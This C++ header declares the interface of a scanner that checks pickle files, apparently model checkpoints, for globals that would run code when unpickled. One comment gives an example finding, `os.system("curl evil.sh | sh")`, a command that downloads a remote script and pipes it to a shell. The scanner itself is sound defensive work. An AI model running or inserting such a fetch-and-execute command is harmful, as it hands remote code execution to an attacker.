// What a file would do if a real unpickler loaded it. Looks everywhere that a loader might; believes nothing.
#pragma once

#include <filesystem>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "depickle/base/error.h"
#include "depickle/base/source.h"

namespace depickle::scan {

enum class Verdict {
  tensors_only,  ///< every global is on the closed list of those that build tensors and plain containers
  has_code,      ///< it names or calls something else
  unreadable,    ///< it could not be read to the end, and what could be read names nothing else
};
/// "tensors-only", "has-code", "unreadable".
std::string_view name(Verdict verdict) noexcept;

/// Something that loading would do beyond building tensors.
struct Finding {
  std::string record;     ///< "archive/data.pkl"; empty where the file is the pickle
  uint64_t offset_bytes;  ///< of the opcode, from the record's start
  std::string what;       ///< `os.system("curl evil.sh | sh")`
  std::string words;      ///< "runs a command"
  uint64_t count;         ///< how often, where the same thing is done many times
};

/// A global that a pickle names.
struct NamedGlobal {
  std::string record;
  std::string name;
  bool inert;  ///< on the closed list
  uint64_t count;
  uint64_t offset_bytes;
};

struct Scan {
  Verdict verdict = Verdict::unreadable;
  std::vector<Finding> findings;     ///< at most 1000
  std::vector<NamedGlobal> globals;  ///< at most 10,000
  uint64_t pickles = 0;              ///< pickles that were looked into
  uint64_t looked_bytes = 0;         ///< bytes of pickles that were looked at, each as often as it was
  std::optional<Error> error;        ///< why the file cannot be read to the end
  std::vector<std::string> notes;
};

/// Looks into every pickle of a file. Never throws because of the file's content. A zip whose directory cannot be trusted is
/// searched for records byte by byte.
Scan scan_pickles(std::shared_ptr<const ByteSource> file);

/// scan_pickles() of a file; one that it calls tensors-only is also read as a table to the end: a file whose pickle is harmless but
/// whose storages are not what they claim is unreadable. Throws Error{not_found, io} if the file cannot be opened.
Scan scan(const std::filesystem::path& path);
Scan scan(std::shared_ptr<const ByteSource> file);

}  // namespace depickle::scan
